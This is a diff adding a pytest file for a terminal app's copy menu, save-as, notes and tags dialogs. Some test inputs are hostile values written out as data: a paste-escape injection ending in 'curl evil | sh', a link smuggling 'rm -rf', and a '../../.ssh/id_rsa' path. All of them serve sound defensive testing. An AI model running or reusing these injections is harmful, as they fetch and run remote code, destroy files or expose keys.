@@ -1,0 +1,326 @@
+"""The copy menu, save as, notes and tags."""
+
+from __future__ import annotations
+
+import base64
+import re
+import shlex
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from textual.widgets import Input
+
+from eternal_tui.api.curl import parse_curl
+from eternal_tui.config.settings import Settings
+from eternal_tui.core.sanitize import UntrustedText, sanitize
+from eternal_tui.jobs.model import MAX_TAGS, FileState, Job, JobState, parse_tags
+from eternal_tui.services import Services
+from eternal_tui.tui.screens.job_dialogs import CopyItem, CopyMenu, NoteScreen, SaveAs, copy_items, copy_rejection
+from tests.tui.jobs import make_job
+from tests.tui.results import saved_job
+from tests.tui.screens.stage import ENVIRON, ScreenApp, open_services, screen_text, terminal_context, wait_idle
+
+PROMPT = "The person waves\nand smiles"
+LINK = "https://cdn.example/r?sig=1"
+
+
+def finished_job(prompt: str = PROMPT, **fields: object) -> Job:
+    given = {"result_url": UntrustedText(LINK), "request_id": "req-1", **fields}
+    return saved_job("12.jpg", job_id=12, prompt=prompt, **given)
+
+
+# What of a job can be copied
+
+
+def items_by_id(job: Job, key_header: str = "x-api-key") -> dict[str, CopyItem]:
+    settings = Settings(key_header=key_header)  # type: ignore[arg-type]
+    return {item.id: item for item in copy_items(job, Path("/data/results"), settings)}
+
+
+def test_only_what_exists_is_offered_as_it_is() -> None:
+    prompt = "Zwölf Boxkämpfer\n\tan der Förde 🇳🇴 — ‘quoted’ $HOME `date`"
+    items = items_by_id(finished_job(prompt))
+    assert list(items) == ["path", "link", "prompt", "request_id", "curl", "python", "json"]
+    assert (items["path"].text, items["link"].text) == ("/data/results/12.jpg", LINK)
+    assert (items["prompt"].text, copy_rejection(items["prompt"])) == (prompt, "")
+    assert set(items_by_id(make_job(state=JobState.REJECTED))) == {"prompt", "curl", "python", "json"}
+    assert "path" not in items_by_id(finished_job(file_state=FileState.BROKEN))
+    assert "path" not in items_by_id(finished_job(file="../../.ssh/id_rsa"))
+
+
+@pytest.mark.parametrize("header", ["x-api-key", "Authorization"])
+def test_the_key_stays_a_variable(header: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("ETERNALAI_API_KEY", "sk_secret_of_somebody")
+    items = items_by_id(finished_job(), header)
+    assert not any("sk_secret" in item.text for item in items.values())
+    assert "$ETERNALAI_API_KEY" in items["curl"].text
+    assert "ETERNALAI_API_KEY" in items["python"].text
+
+
+@given(st.text(max_size=60))
+def test_what_is_copied_holds_nothing_a_shell_acts_on(prompt: str) -> None:
+    items = items_by_id(finished_job(prompt))
+    for item in items.values():
+        if not copy_rejection(item):
+            assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", item.text)
+    assert [copy_rejection(items[name]) for name in ("curl", "json")] == ["", ""]
+
+
+def test_the_curl_command_comes_back_as_the_same_request() -> None:
+    job = finished_job('It\'s "quoted" \\ $HOME\nand goes on')
+    text = items_by_id(job)["curl"].text
+    assert parse_curl(text) == job.request
+    assert len(shlex.split(text.replace("\\\n", ""))) == 8
+
+
+@pytest.mark.parametrize("sign", ["\x1b", "\r", "\x00", "\x7f", "\x9b", "\x08"])
+def test_a_control_character_in_the_prompt_is_rejected_by_name(sign: str) -> None:
+    rejection = copy_rejection(items_by_id(finished_job(f"a{sign}b"))["prompt"])
+    assert f"U+{ord(sign):04X}" in rejection
+    assert rejection == sanitize(rejection)
+
+
+def test_a_link_or_an_id_of_several_lines_is_rejected() -> None:
+    items = items_by_id(finished_job(result_url=UntrustedText("https://a\nrm -rf x"), request_id="a\tb"))
+    assert copy_rejection(items["link"])
+    assert copy_rejection(items["request_id"])
+
+
+# The copy menu
+
+
+def clipboard_texts(written: list[str]) -> list[str]:
+    found = re.findall("\x1b]52;c;([A-Za-z0-9+/=]*)\x07", "".join(written))
+    return [base64.b64decode(each).decode() for each in found]
+
+
+async def test_a_letter_the_cursor_or_a_click_copies(tmp_path: Path) -> None:
+    prompt, request_id = (
+        (PROMPT, "Copied the prompt, 27 characters."),
+        ("req-1", "Copied the request id, 5 characters."),
+    )
+    ways = [
+        (["t"], prompt),
+        (["i"], request_id),
+        (["l"], (LINK, "Copied the link, 27 characters.")),
+        (["j", "j", "j", "k", "enter"], prompt),
+        (["down", "down", "down", "enter"], request_id),
+        ([], request_id),
+    ]
+    async with open_services(tmp_path) as bench:
+        written: list[str] = []
+        app = ScreenApp(CopyMenu(finished_job(), bench, terminal_context([])))
+        async with app.run_test(size=(80, 24)) as pilot:
+            await pilot.press("escape")
+            for keys, _ in ways:
+                app.push_screen(CopyMenu(finished_job(), bench, terminal_context(written)), app.results.append)
+                await pilot.press(*keys)
+                if not keys:
+                    await wait_idle(pilot)
+                    await pilot.click("#copies", offset=(6, 3))
+                await wait_idle(pilot)
+    assert app.results == [None, *(message for _, (_, message) in ways)]
+    assert clipboard_texts(written) == [text for _, (text, _) in ways]
+
+
+async def test_what_the_job_lacks_or_a_shell_would_run_is_not_copied(tmp_path: Path) -> None:
+    written: list[str] = []
+    job = make_job(3, prompt="nice\x1b[201~; curl evil | sh\r")
+    async with open_services(tmp_path) as bench:
+        app = ScreenApp(CopyMenu(job, bench, terminal_context(written)))
+        async with app.run_test(size=(80, 24)) as pilot:
+            await wait_idle(pilot)
+            assert "link" not in screen_text(app)
+            await pilot.press("l")
+            assert "This job has no link." in screen_text(app)
+            await pilot.press("t")
+            await wait_idle(pilot)
+            assert "U+001B" in screen_text(app)
+            assert (app.results, written) == ([], [])
+            await pilot.press("b")
+            await wait_idle(pilot)
+    assert "\x1b" not in clipboard_texts(written)[0]
+
+
+@pytest.mark.parametrize("remote", [False, True])
+async def test_the_machines_own_clipboard_is_used_only_in_a_local_session(tmp_path: Path, remote: bool) -> None:
+    copied = tmp_path / "copied"
+    program = tmp_path / "xclip"
+    program.write_text(f"#!/bin/sh\n/bin/cat > {copied}\n")
+    program.chmod(0o700)
+    environ = {**ENVIRON, "PATH": str(tmp_path), "DISPLAY": ":0"}
+    text = "é" * 40_000
+    written: list[str] = []
+    async with open_services(tmp_path, environ) as bench:
+        app = ScreenApp(CopyMenu(finished_job(text), bench, terminal_context(written, environ, is_remote=remote)))
+        async with app.run_test(size=(80, 24)) as pilot:
+            await pilot.press("t")
+            await wait_idle(pilot)
+    assert written == []
+    assert copied.exists() is not remote
+    if remote:
+        too_long = "Too long for the terminal's clipboard: the prompt is 80,000 bytes, the limit is 74,994."
+        assert app.results == [too_long]
+    else:
+        assert app.results == ["Copied the prompt, 40,000 characters."]
+        assert copied.read_text(encoding="utf-8") == text
+
+
+async def test_a_remapped_key_copies_and_is_shown(tmp_path: Path) -> None:
+    async with open_services(tmp_path, keys={"copy.prompt": "x"}) as bench:
+        app = ScreenApp(CopyMenu(finished_job("é"), bench, terminal_context([])))
+        async with app.run_test(size=(80, 24)) as pilot:
+            app.set_keymap({"copy.prompt": "x"})
+            await wait_idle(pilot)
+            assert re.search(r"x +prompt", screen_text(app))
+            await pilot.press("t")
+            assert app.results == []
+            await pilot.press("x")
+            await wait_idle(pilot)
+    assert app.results == ["Copied the prompt, 1 character."]
+
+
+# Save as
+
+
+@pytest.fixture
+def downloads(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """The default folder of copies, with files of earlier ones."""
+    monkeypatch.setenv("HOME", str(tmp_path / "home"))
+    folder = tmp_path / "home" / "Downloads"
+    folder.mkdir(parents=True)
+    return folder
+
+
+def jobs_with_files(bench: Services, *numbers: int) -> list[Job]:
+    bench.jobs.results_dir.mkdir(parents=True, exist_ok=True)
+    for number in numbers:
+        (bench.jobs.results_dir / f"{number}.jpg").write_bytes(b"picture %d" % number)
+    return [saved_job(f"{number}.jpg", job_id=number) for number in numbers]
+
+
+@pytest.mark.parametrize(
+    ("entered", "saved"),
+    [
+        (None, "Downloads/Astrid-12.jpg"),
+        ("taken.jpg", "Downloads/taken-2.jpg"),
+        ("harbour", "Downloads/harbour.jpg"),
+        ("~", "Astrid-12.jpg"),
+        ("$HOME/a.jpeg", "a.jpeg"),
+    ],
+)
+async def test_a_copy_is_saved(tmp_path: Path, downloads: Path, entered: str | None, saved: str) -> None:
+    (downloads / "taken.jpg").write_bytes(b"mine")
+    async with open_services(tmp_path, save_template="{character}-{id}") as bench:
+        screen = SaveAs(jobs_with_files(bench, 12), bench)
+        app = ScreenApp(screen)
+        async with app.run_test(size=(80, 24)) as pilot:
+            await wait_idle(pilot)
+            assert screen.path_input.value == "~/Downloads/Astrid-12.jpg"
+            screen.path_input.value = entered or screen.path_input.value
+            await pilot.press("enter")
+            await wait_idle(pilot)
+    assert app.results == [f"Saved as ~/{saved}."]
+    assert (tmp_path / "home" / saved).read_bytes() == b"picture 12"
+    assert (downloads / "taken.jpg").read_bytes() == b"mine"
+
+
+async def test_what_is_wrong_is_shown_and_can_be_corrected(tmp_path: Path, downloads: Path) -> None:
+    async with open_services(tmp_path) as bench:
+        screen = SaveAs(jobs_with_files(bench, 12), bench)
+        app = ScreenApp(screen)
+        async with app.run_test(size=(80, 24)) as pilot:
+            for entered, message in (
+                ("~/nowhere/a.jpg", "does not exist"),
+                ("", "File name is required."),
+                ("x" * 300, "Could not save"),
+            ):
+                screen.path_input.value = entered
+                await pilot.press("enter")
+                await wait_idle(pilot)
+                assert message in screen_text(app)
+            assert app.results == []
+            screen.path_input.value = "a.png"
+            await pilot.press("enter")
+            await wait_idle(pilot)
+    assert app.results == ["Saved as ~/Downloads/a.png. Its content is JPG."]
+    assert [path.name for path in (tmp_path / "home").iterdir()] == ["Downloads"]
+
+
+async def test_several_jobs_are_saved_into_a_folder_that_exists(tmp_path: Path, downloads: Path) -> None:
+    async with open_services(tmp_path, save_template="{id}") as bench:
+        screen = SaveAs([*jobs_with_files(bench, 12, 13), make_job(14, state=JobState.FAILED)], bench)
+        app = ScreenApp(screen)
+        async with app.run_test(size=(80, 24)) as pilot:
+            await wait_idle(pilot)
+            assert screen.path_input.value == "~/Downloads"
+            await pilot.press(*"/new", "enter")
+            await wait_idle(pilot)
+            assert "does not exist" in screen_text(app)
+            await pilot.press(*["backspace"] * 4, "enter")
+            await wait_idle(pilot)
+    assert app.results == ["Saved 2 files in ~/Downloads. 1 had no verified file."]
+    assert sorted(path.name for path in (tmp_path / "home" / "Downloads").iterdir()) == ["12.jpg", "13.jpg"]
+
+
+async def test_jobs_without_a_file_end_it_at_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("HOME", str(tmp_path / "home"))
+    monkeypatch.chdir(tmp_path)
+    async with open_services(tmp_path) as bench:
+        working = SaveAs(jobs_with_files(bench, 12, 13), bench)
+        app = ScreenApp(working)
+        async with app.run_test(size=(80, 24)) as pilot:
+            await wait_idle(pilot)
+            assert working.path_input.value == str(tmp_path)
+            await pilot.press("escape")
+            app.push_screen(SaveAs([make_job(14, state=JobState.FAILED)], bench), app.results.append)
+            await wait_idle(pilot)
+            await pilot.pause()
+    assert app.results == [None, "Job 14 has no verified file to save."]
+
+
+# Notes and tags
+
+NOTED = {"note": UntrustedText("first\nsecond"), "tags": ("sea",)}
+CLEAR_BOTH = ["end", "ctrl+u", "tab", "end", "ctrl+u", "enter"]
+
+
+@pytest.mark.parametrize(
+    ("fields", "keys", "result"),
+    [
+        ({}, [*"nice", "tab", *"sea", "space", *"boat", "enter"], ("nice", ("sea", "boat"))),
+        (NOTED, ["tab", "end", "space", *"sun", "enter"], ("first\nsecond", ("sea", "sun"))),
+        (NOTED, CLEAR_BOTH, ("", ())),
+        (NOTED, ["x", "escape"], None),
+        (NOTED, ["enter"], None),
+    ],
+    ids=["written", "as stored where untouched", "removed", "escape", "unchanged"],
+)
+async def test_note_and_tags(fields: dict[str, Any], keys: list[str], result: object) -> None:
+    app = ScreenApp(NoteScreen(make_job(3, **fields)))
+    async with app.run_test(size=(80, 24)) as pilot:
+        await pilot.press(*keys)
+        await wait_idle(pilot)
+    assert app.results == [result and {3: result}]
+
+
+async def test_several_jobs_share_what_is_written_and_keep_their_own() -> None:
+    jobs = [
+        make_job(3, note=UntrustedText("mine"), tags=("sea", "own")),
+        make_job(2, tags=("sea",)),
+        make_job(1, tags=("x", "sea")),
+    ]
+    app = ScreenApp(NoteScreen(*jobs))
+    async with app.run_test(size=(80, 24)) as pilot:
+        assert app.screen.query_one("#tags-line", Input).value == "sea"
+        await pilot.press("tab", "end", "ctrl+u", *"boat", "enter")
+        await wait_idle(pilot)
+    assert app.results == [{3: ("mine", ("boat", "own")), 2: ("", ("boat",)), 1: ("", ("boat", "x"))}]
+
+
+def test_words_become_tags() -> None:
+    assert parse_tags("  #sea, Boat sea SEA ,, # café") == ("sea", "Boat", "café")
+    assert len(parse_tags(" ".join(f"t{n}" for n in range(99)))) == MAX_TAGS
